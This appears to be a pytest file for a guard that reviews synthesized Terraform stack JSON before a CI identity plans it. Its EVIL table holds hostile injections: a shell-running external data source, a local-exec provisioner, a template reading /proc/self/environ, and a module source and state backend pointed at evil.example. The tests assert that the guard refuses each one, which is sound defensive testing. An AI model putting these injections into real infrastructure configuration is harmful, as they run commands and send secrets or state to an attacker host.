"""What a pull request makes is planned with an identity only if planning it runs and reads nothing else."""

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from plan_review.errors import ReviewError
from plan_review.fleet import Fleet
from plan_review.guard import check, problems
from plan_review.pipeline import affected, entries
from tests.plan_review import conftest, repositories
from tests.plan_review.corpus.case import replace, team

STACK = "prod-team-pricing"
Document = dict[str, Any]


@pytest.fixture(scope="module")
def synthesized(root: Path, inputs: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Document]:
    folder = tmp_path_factory.mktemp("guard")
    conftest.synthesize(
        root, [{"root": str(inputs), "stacks": ["prod-*"], "out": str(folder / "out")}], folder
    )
    return conftest.read(folder / "out")


def test_every_stack_of_the_repository_passes(synthesized: dict[str, Document]) -> None:
    assert len(synthesized) > 8
    for stack, document in synthesized.items():
        if "-team-" in stack:
            assert list(problems(stack, document)) == []


def exec_of(document: Document) -> Document:
    found: Document = document["provider"]["kubernetes"][0]["exec"][0]
    return found


def some(document: Document) -> Document:
    found: Document = next(iter(document["resource"]["google_bigquery_table"].values()))
    return found


EVIL: dict[str, Callable[[Document], Any]] = {
    "data source external is not allowed": lambda d: d["data"].update(external={"x": {"program": ["sh"]}}),
    "data source http is not allowed": lambda d: d["data"].update(
        http={"x": {"url": "https://evil.example"}}
    ),
    "provisioner is not allowed": lambda d: some(d).update(provisioner={"local-exec": {"command": "id"}}),
    "resource null_resource is of no pinned provider": lambda d: d["resource"].update(
        null_resource={"x": {}}
    ),
    "provider shell of evil/shell is not allowed": lambda d: d["terraform"]["required_providers"].update(
        shell={"source": "evil/shell", "version": "1.0.0"}
    ),
    "provider google of evil/google is not allowed": lambda d: d["terraform"]["required_providers"][
        "google"
    ].update(source="evil/google"),
    "provider google is not pinned": lambda d: d["terraform"]["required_providers"]["google"].update(
        version=">= 6"
    ),
    "exec runs another program": lambda d: exec_of(d).update(command="sh"),
    "host is not the cluster": lambda d: d["provider"]["kubernetes"][0].update(host="https://evil.example"),
    "config_path is not allowed": lambda d: d["provider"]["kubernetes"][0].update(
        config_path="~/.kube/config"
    ),
    "credentials is not allowed": lambda d: d["provider"]["google"][0].update(credentials="x"),
    "compute_custom_endpoint is not allowed": lambda d: d["provider"]["google"][0].update(
        compute_custom_endpoint="https://evil.example/"
    ),
    "a template reads a file": lambda d: some(d).update(description='${file("/proc/self/environ")}'),
    "section 'module' is not allowed": lambda d: d.update(
        module={"x": {"source": "git::https://evil.example"}}
    ),
    "section 'import' is not allowed": lambda d: d.update({"import": [{"to": "a.b", "id": "x"}]}),
    "the state must be under the prefix": lambda d: d["terraform"]["backend"]["gcs"].update(
        prefix="prod-team-other"
    ),
    "the state must be in Cloud Storage": lambda d: d["terraform"].update(
        backend={"http": {"address": "https://evil.example"}}
    ),
    "terraform.cloud is not allowed": lambda d: d["terraform"].update(cloud={"organization": "evil"}),
}


@pytest.mark.parametrize("words", EVIL)
def test_what_would_run_or_read_is_refused(synthesized: dict[str, Document], words: str) -> None:
    document = copy.deepcopy(synthesized[STACK])
    EVIL[words](document)
    assert any(words in problem for problem in problems(STACK, document)), list(problems(STACK, document))


def test_escaped_templates_are_text(synthesized: dict[str, Document]) -> None:
    document = copy.deepcopy(synthesized[STACK])
    some(document)["description"] = '$${file("/etc/passwd")}'
    assert list(problems(STACK, document)) == []


def test_other_files_beside_the_stack_are_refused(synthesized: dict[str, Document], tmp_path: Path) -> None:
    path = tmp_path / "cdk.tf.json"
    path.write_text(json.dumps(synthesized[STACK]))
    check(STACK, path)
    (tmp_path / "extra.tf").write_text("")
    with pytest.raises(ReviewError, match=r"extra\.tf stands beside it"):
        check(STACK, path)


@pytest.mark.parametrize("text", ["", "[]", "{", '"x"'])
def test_what_is_no_stack_is_refused(tmp_path: Path, text: str) -> None:
    path = tmp_path / "cdk.tf.json"
    path.write_text(text)
    with pytest.raises(ReviewError, match="no synthesized stack"):
        check(STACK, path)


def test_pipelines_know_the_identities_of_each_stack(inputs: Path) -> None:
    found = {entry["stack"]: entry for entry in entries(Fleet(inputs))}
    assert not [stack for stack in found if stack.startswith("local-")], "the stand-in has no pipeline"
    entry = found[STACK]
    assert entry["planner"] == "modelyard-planner@example-prod-pricing.iam.gserviceaccount.com"
    assert entry["deployer"] == "modelyard-deployer@example-prod-pricing.iam.gserviceaccount.com"
    assert entry["provider"].endswith("/locations/global/workloadIdentityPools/modelyard-ci/providers/github")


def test_a_change_names_the_stacks_it_can_move(root: Path, tmp_path: Path) -> None:
    repository = repositories.make(root, tmp_path / "repository")
    repositories.git(repository, "checkout", "--quiet", "-b", "change")
    replace(team(repository, "pricing"), "replicas: {min: 3", "replicas: {min: 4")
    repositories.commit(repository, "more")
    assert [entry["stack"] for entry in affected(repository, "main", "HEAD")] == ["dev-team-pricing"]
    assert affected(repository, "main", "HEAD", ["prod-*"]) == []
